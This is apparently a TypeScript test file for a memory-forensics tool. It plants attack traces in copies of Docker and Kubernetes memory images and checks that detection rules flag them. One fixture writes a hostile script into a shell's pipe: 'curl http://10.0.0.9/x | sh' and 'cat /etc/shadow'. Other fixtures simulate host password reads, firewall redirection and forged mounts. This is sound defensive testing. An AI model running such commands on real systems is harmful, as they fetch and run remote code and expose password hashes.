/** What rules are for and no image has: done to a copy of one, found there, and not on the image as it was. */

import { closeSync, openSync, readSync } from 'node:fs'
import { evaluateRule } from 'salvor/testing'
import { describe, expect, it } from 'vitest'
import secretPaid from '../../dist/plugins/rules/credential-access/host-secret-paid-by-container.js'
import argumentsMoved from '../../dist/plugins/rules/defense-evasion/arguments-moved.js'
import withoutSections from '../../dist/plugins/rules/defense-evasion/program-without-sections.js'
import scriptInPipe from '../../dist/plugins/rules/execution/script-in-pipe.js'
import redirected from '../../dist/plugins/rules/lateral-movement/external-address-redirected.js'
import restarted from '../../dist/plugins/rules/persistence/restarted-with-host.js'
import fuse from '../../dist/plugins/rules/privilege-escalation/fuse-in-container.js'
import type { Kernel } from '../../dist/src/kernel/kernel.js'
import { native } from '../../dist/src/kernel/native.js'
import { addressOf, array, bytes, index } from '../../dist/src/kernel/query.js'
import { sharedImage, table } from './images.js'
import { type Patch, patchedCopy, word } from './patched.js'

type Row = Record<string, unknown>

const rowsOf = (name: string, path: string) => table(name, path).rows as Row[]
const address = (row: Row | undefined) => BigInt(`${row?.address}`)
const direct = (kernel: Kernel) =>
  kernel.symbol('page_offset_base', 'unsigned long').select({ at: '' }).column('at').bigint(0) ?? 0n

/** The words in which some bytes at an address are others. */
function written(kernel: Kernel, at: bigint, content: Uint8Array): Patch[] {
  const from = at & ~7n
  const length = (Number(at - from) + content.length + 7) & ~7
  const old = kernel
    .at([from], 'char')
    .select({ old: bytes('', { length }) })
    .column('old')
    .bytes(0)
  const before = Buffer.from(old ?? [])
  const after = Buffer.from(before)
  after.set(content, Number(at - from))
  return Array.from({ length: length / 8 }, (_, word): Patch => {
    return [from + BigInt(word * 8), before.readBigUInt64LE(word * 8), after.readBigUInt64LE(word * 8)]
  }).filter(([, old, value]) => old !== value)
}

/** Where the first page of a file that the page cache has lies, as the kernel sees all of memory. */
function firstPage(kernel: Kernel, inode: bigint): bigint {
  const [offset, physical] = native.fileRuns(kernel.id, inode) ?? []
  expect(offset).toBe(0n)
  return direct(kernel) + (physical ?? 0n)
}

const fileOf = (path: string, name: string | RegExp) =>
  rowsOf('files', path).find((row) => row.mount_id !== null && `${row.path}`.search(name) === 0)

/** A text of a file in the page cache, put in the place of another that is as long at least. */
function replaced(kernel: Kernel, page: bigint, old: string, by: string): Patch[] {
  const text = kernel
    .at([page], 'char')
    .select({ text: bytes('', { length: 4096 }) })
    .column('text')
    .bytes(0)
  const at = Buffer.from(text ?? []).indexOf(old)
  expect(at, old).toBeGreaterThan(0)
  return written(kernel, page + BigInt(at), Buffer.from(by.padEnd(old.length)))
}

interface Change {
  // biome-ignore lint/suspicious/noExplicitAny: rules of different tables
  readonly rule: any
  /** The tables that it reads, by the names that it gives them. */
  readonly reads: Readonly<Record<string, string>>
  /** What is changed, and what the finding must say. */
  make(kernel: Kernel, path: string): { patches: Patch[]; finding: Row }
}

const container = (path: string, name: string) => rowsOf('containers', path).find((row) => row.name === name)
const leader = (path: string, pid: unknown) => rowsOf('processes', path).find((row) => row.pid === pid)

const ON_DOCKER: Readonly<Record<string, Change>> = {
  'a container by hand, with the whole host, that is to be started again': {
    rule: restarted,
    reads: { settings: 'container-settings', containers: 'containers' },
    make: (kernel, path) => {
      const row = container(path, 'corp-agent')
      const file = fileOf(path, new RegExp(`/var/lib/docker/containers/${row?.id}/hostconfig\\.json`))
      const [old, by] = ['{"Name":"no","MaximumRetryCount":0}', '{"Name":"always"}']
      return {
        patches: replaced(kernel, firstPage(kernel, address(file)), old, by),
        finding: { about: { container: row?.id }, severity: 'medium' },
      }
    },
  },
  'a program whose header counts no sections': {
    rule: withoutSections,
    reads: { elf: 'elf-files', processes: 'processes' },
    make: (kernel, path) => {
      const process = rowsOf('processes', path).find(({ comm }) => comm === 'dockerd')
      const { value: inode } = word(kernel, address(process), 'struct task_struct', 'mm->exe_file->f_inode')
      const page = firstPage(kernel, inode)
      return {
        // e_shoff, and e_shnum with e_shstrndx (elf(5)).
        patches: [...written(kernel, page + 40n, Buffer.alloc(8)), ...written(kernel, page + 60n, Buffer.alloc(4))],
        finding: {
          about: { pid: process?.pid },
          severity: 'low',
          summary: expect.stringContaining(`‘${process?.exe}’`),
        },
      }
    },
  },
  'a command line that lies in the heap': {
    rule: argumentsMoved,
    reads: { stacks: 'user-stacks', processes: 'processes' },
    make: (kernel, path) => {
      const process = leader(path, container(path, 'shop-web-1')?.init_pid)
      const { value: mm } = word(kernel, address(process), 'struct task_struct', 'mm')
      const { value: heap } = word(kernel, mm, 'struct mm_struct', 'start_brk')
      const moved = [
        ['arg_start', heap],
        ['arg_end', heap + 16n],
      ] as const
      return {
        patches: moved.map(([member, to]): Patch => {
          const { at, value } = word(kernel, mm, 'struct mm_struct', member)
          return [at, value, to]
        }),
        finding: { about: { pid: process?.pid }, severity: 'medium', summary: expect.stringContaining('‘[heap]’') },
      }
    },
  },
  'a script that a shell is to read from a pipe': {
    rule: scriptInPipe,
    reads: { queues: 'socket-queues', processes: 'processes' },
    make: (kernel, path) => {
      const shell = leader(path, container(path, 'corp-batch')?.init_pid)
      // A pipe is of the first who reads it: one that a process reads which began later.
      const pipe = rowsOf('open-files', path).find(({ comm, type, fd, pid }) => {
        return comm === 'containerd-shim' && type === 'pipe' && fd === 12 && Number(pid) > Number(shell?.pid)
      })
      const script = Buffer.from('id\ncurl http://10.0.0.9/x | sh\ncat /etc/shadow\n')
      // Any page will do whose file none of the tables reads.
      const file = rowsOf('files', path).find((row) => row.path === '/etc/iproute2/rt_tables' && row.container === null)
      const { value: page } = word(kernel, address(file), 'struct inode', 'i_data.i_pages.xa_head')
      expect(page & 3n).toBe(0n)
      const fd = descriptor(kernel, address(shell), 0)
      const { value: info } = word(kernel, address(pipe), 'struct file', 'f_inode->i_pipe')
      return {
        patches: [
          ...written(kernel, firstPage(kernel, address(file)), script),
          [fd, word(kernel, address(shell), 'struct task_struct', 'files->fdt->fd[0]').value, address(pipe)],
          ...filled(kernel, info, page, script.length),
        ],
        finding: { about: { pid: shell?.pid }, severity: 'high' },
      }
    },
  },
  'a file system of its own that a container serves itself': {
    rule: fuse,
    reads: { mounts: 'mounts', containers: 'containers' },
    make: (kernel, path) => {
      const row = container(path, 'corp-batch')
      const of = (target: string) =>
        rowsOf('mounts', path).find((mount) => mount.container === row?.id && mount.target === target)
      const mount = address(of('/proc/acpi'))
      const { value: dentry } = word(
        kernel,
        address(leader(path, row?.init_pid)),
        'struct task_struct',
        'mm->exe_file->f_path.dentry',
      )
      const member = (name: string) => word(kernel, mount, 'struct mount', name)
      const [parent, point, type] = [member('mnt_parent'), member('mnt_mountpoint'), member('mnt.mnt_sb->s_type')]
      // No file system of that name is here: a copy of one's name is enough.
      const scratch = ((kernel.address('panic') ?? 0n) + 63n) & ~63n
      const names = kernel.at([type.value], 'struct file_system_type').select({ at: addressOf('name') })
      const offset = (names.column('at').bigint(0) ?? 0n) - type.value
      const pointer = Buffer.alloc(8)
      pointer.writeBigUInt64LE(scratch + 128n)
      return {
        patches: [
          [parent.at, parent.value, address(of('/'))],
          [point.at, point.value, dentry],
          [type.at, type.value, scratch],
          ...written(kernel, scratch + offset, pointer),
          ...written(kernel, scratch + 128n, Buffer.from('fuse.x\0\0')),
        ],
        finding: { about: { container: row?.id }, summary: expect.stringContaining('‘fuse.x’') },
      }
    },
  },
  'passwords of the host that a container was the first to read': {
    rule: secretPaid,
    reads: { payers: 'file-payers' },
    make: (kernel, path) => {
      const row = container(path, 'corp-ci')
      const shadow = rowsOf('files', path).find((file) => file.path === '/etc/shadow' && file.container === null)
      const { value: page } = word(kernel, address(shadow), 'struct inode', 'i_data.i_pages.xa_head')
      expect(page & 3n).toBe(0n)
      const charged = word(kernel, page, 'struct page', 'memcg_data')
      const paid = word(
        kernel,
        address(leader(path, row?.init_pid)),
        'struct task_struct',
        'cgroups->subsys[memory_cgrp_id]',
      )
      return {
        patches: [[charged.at, charged.value, paid.value]],
        finding: { about: { container: row?.id }, summary: expect.stringContaining('‘/etc/shadow’') },
      }
    },
  },
}

/** Where a task's descriptor leads from. */
function descriptor(kernel: Kernel, task: bigint, number: number): bigint {
  const { value: table } = word(kernel, task, 'struct task_struct', 'files->fdt->fd')
  return table + BigInt(number * 8)
}

/** A pipe with one buffer in it: what pipe_write() leaves. */
function filled(kernel: Kernel, pipe: bigint, page: bigint, length: number): Patch[] {
  const rings = kernel.at([pipe], 'struct pipe_inode_info').select(
    { head: 'head', head_at: addressOf('head'), tail: 'tail', size: 'ring_size' },
    {
      buffers: {
        walk: array('bufs', { count: 'ring_size', most: 64 }),
        select: { slot: index(), page: addressOf('page'), offset: addressOf('offset') },
      },
    },
  )
  const number = (name: 'tail' | 'size') => rings.column(name).number(0) ?? 0
  const slot = number('tail') % number('size')
  const buffers = rings.child('buffers')
  const head = Buffer.alloc(4)
  head.writeUInt32LE(number('tail') + 1)
  const [pointer, span] = [Buffer.alloc(8), Buffer.alloc(8)]
  pointer.writeBigUInt64LE(page)
  // `offset`, and behind it `len`.
  span.writeUInt32LE(length, 4)
  return [
    ...written(kernel, rings.column('head_at').bigint(0) ?? 0n, head),
    ...written(kernel, buffers.column('page').bigint(slot) ?? 0n, pointer),
    ...written(kernel, buffers.column('offset').bigint(slot) ?? 0n, span),
  ]
}

/** More than the machine has; the file's end is the firmware's. */
function startOf(path: string): Buffer {
  const [memory, open] = [Buffer.alloc(1 << 30), openSync(path, 'r')]
  readSync(open, memory, 0, memory.length, 0)
  closeSync(open)
  return memory
}

const ON_KUBERNETES: Readonly<Record<string, Change>> = {
  'an address of the internet that a service took': {
    rule: redirected,
    reads: { ports: 'published-ports' },
    make: (kernel, path) => {
      const port = rowsOf('published-ports', path).find(({ comment }) => `${comment}`.endsWith('/sessions cluster IP'))
      const comment = `${port?.comment}`
      const [own, taken] = [`${port?.address}`, '8.8.8.8'].map((text) => Buffer.from(text.split('.').map(Number)))
      const rule = rowsOf('firewall', path).find(({ chain, text }) => {
        return chain === 'KUBE-SERVICES' && `${text}`.includes(comment)
      })
      const code = kernel
        .at([address(rule)], 'char')
        .select({ code: bytes('', { length: 512 }) })
        .column('code')
        .bytes(0)
      const at = Buffer.from(code ?? []).indexOf(own ?? '')
      expect(at).toBeGreaterThan(0)
      const patches = written(kernel, address(rule) + BigInt(at), taken ?? Buffer.alloc(0))
      // The comment lies by itself, and in texts of kube-proxy's that nobody reads here.
      const memory = startOf(path)
      for (let at = memory.indexOf(`${comment}\0`); at >= 0; at = memory.indexOf(`${comment}\0`, at + 1)) {
        if (at % 4096 > 4000) continue
        const longer = Buffer.from(`${comment.replace('cluster IP', 'external IP')}\0`)
        patches.push(...written(kernel, direct(kernel) + BigInt(at), longer))
      }
      return {
        patches,
        finding: {
          summary: expect.stringContaining('What is sent to 8.8.8.8:6379 comes to '),
          about: { container: port?.target_container },
        },
      }
    },
  },
}

const CASES = [
  [sharedImage('docker-debian12'), ON_DOCKER],
  [sharedImage('k8s-debian13'), ON_KUBERNETES],
] as const

for (const [image, changes] of CASES) {
  describe(`changed copies of ${image.title}`, () => {
    image.require()
    const findings = new Map<string, Row>()
    // The changes are of different objects: one copy has them all.
    const copy = patchedCopy(
      image,
      ...Object.entries(changes).map(([name, { make }]) => (kernel: Kernel, path: string): Patch[] => {
        const { patches, finding } = make(kernel, path)
        expect(patches.length, name).toBeGreaterThan(0)
        findings.set(name, finding)
        return patches
      }),
    )

    it.each(Object.entries(changes))('%s', (name, { rule, reads }) => {
      const evaluated = (path: string) =>
        evaluateRule(
          rule,
          Object.fromEntries(Object.entries(reads).map(([as, of]) => [as, rowsOf(of, path) as object[]])),
        )
      expect(evaluated(copy.path)).toMatchObject([findings.get(name)])
      expect(evaluated(image.as('elf'))).toEqual([])
    })
  })
}
